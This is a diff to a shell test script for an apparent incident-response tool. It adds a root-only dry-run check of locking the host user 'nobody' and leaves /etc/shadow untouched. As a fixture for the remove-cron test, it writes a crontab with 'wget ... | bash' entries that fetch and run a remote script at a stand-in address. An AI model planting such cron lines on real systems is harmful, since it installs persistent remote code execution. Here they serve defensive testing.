@@ -169,6 +169,15 @@ expect lock_root_force "exit $rc: $(cat "$T/r.out")" has "$R/etc/shadow" '^root:
 	"$M" agent respond undo "$RID" $RO --yes >>"$T/u.out" 2>&1; rc=$?
 expect lock_undo "exit $rc: $(cat "$T/u.out"); $(diff "$R/etc/shadow" "$T/shadow.orig")" sh -c "test $rc -eq 0 && cmp -s '$R/etc/shadow' '$T/shadow.orig'"
 
+# on the host (no --root) lock-user runs usermod: only its dry run here
+if [ "$(id -u)" = 0 ] && grep -q '^nobody:' /etc/shadow 2>/dev/null; then
+	cp /etc/shadow "$T/host-shadow"
+	"$M" agent respond lock-user nobody $O >"$T/l.out" 2>&1; rc=$?
+	expect lock_host_dry "exit $rc: $(cat "$T/l.out")" sh -c "test $rc -eq 0 && grep -q \"would run: .*usermod '-L' '-e' '1' 'nobody'\" '$T/l.out' && cmp -s /etc/shadow '$T/host-shadow'"
+else
+	skipped lock_host_dry "not root, or no user nobody in /etc/shadow"
+fi
+
 # --- remove-cron on the test root's spool --------------------------------
 C="$R/var/spool/cron/crontabs/git"
 printf '# DO NOT EDIT\nMAILTO=""\n*/5 * * * * wget -q -O - http://203.0.113.9/gi.sh | bash\n0 3 * * * /usr/local/bin/backup\n@reboot wget -q -O - http://203.0.113.9/gi.sh | bash\n' >"$C"
